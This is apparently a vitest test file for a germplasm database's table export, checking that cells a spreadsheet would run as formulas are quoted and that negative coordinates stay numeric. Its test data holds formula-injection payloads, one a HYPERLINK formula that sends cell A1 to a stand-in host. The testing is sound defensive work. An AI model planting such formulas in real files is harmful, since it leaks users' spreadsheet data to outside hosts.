import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testDialects } from '../support/databases.js';
import { startServer, type TestServer } from '../support/server.js';
import { f, germplasmDb, seedGermplasm } from '../support/seed.js';

/** Names a curator (or an uploaded file) could give germplasm, each of which a spreadsheet would run. */
const FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '-'];

async function exportRows(server: TestServer, body: unknown): Promise<string[][]> {
  const response = await server.api('POST', 'germplasm/table/export', { body });
  expect(response.status).toBe(200);
  const files = Object.values(unzipSync(new Uint8Array(await response.arrayBuffer())));
  expect(files).toHaveLength(1);
  const text = new TextDecoder().decode(files[0]);
  return text.slice(0, -2).split('\r\n').map((line) => line.split('\t'));
}

describe.each(testDialects())('spreadsheet-safe table exports on %s', (dialect) => {
  let server: TestServer;
  beforeAll(async () => {
    server = await startServer(dialect, { jobs: false });
    await seedGermplasm(server);
    const db = germplasmDb(server);
    for (const [index, name] of FORMULAS.entries()) {
      await db.insertInto('germinatebase').values({ id: 800 + index, general_identifier: `F-${index}`, name, display_name: name }).execute();
    }
  });
  afterAll(async () => server?.close());

  it('quotes every cell that a spreadsheet would run as a formula, and its header when mapped', async () => {
    const rows = await exportRows(server, {
      columnNameMapping: { germplasmId: 'Id', germplasmName: '=Name', germplasmGid: 'Accession' },
      filter: [f('germplasmId', 'between', ['800', '899'])],
    });
    expect(rows).toEqual([
      ['Id', "'=Name", 'Accession'],
      ['800', '\'=HYPERLINK("http://x.example/?"&A1,"Click")', 'F-0'],
      ['801', "'+1+1", 'F-1'],
      ['802', "'-2+3", 'F-2'],
      ['803', "'@SUM(A1:A9)", 'F-3'],
      // A tab or carriage return that starts a value is a formula start too; inside a row it becomes a space.
      ['804', "' =1+1", 'F-4'],
      ['805', "' =1+1", 'F-5'],
      ['806', "'-", 'F-6'],
    ]);
  });

  it('leaves negative numbers as numbers (coordinates south and west)', async () => {
    const rows = await exportRows(server, {
      columnNameMapping: { germplasmName: 'Name', latitude: 'Latitude', longitude: 'Longitude' },
      filter: [f('germplasmId', 'inSet', ['3', '9'])],
    });
    expect(rows).toEqual([
      ['Name', 'Latitude', 'Longitude'],
      ['BARKE-2', '56.46', '-2.97'],
      ['underXscore', '-42.88', '147.33'],
    ]);
  });
});
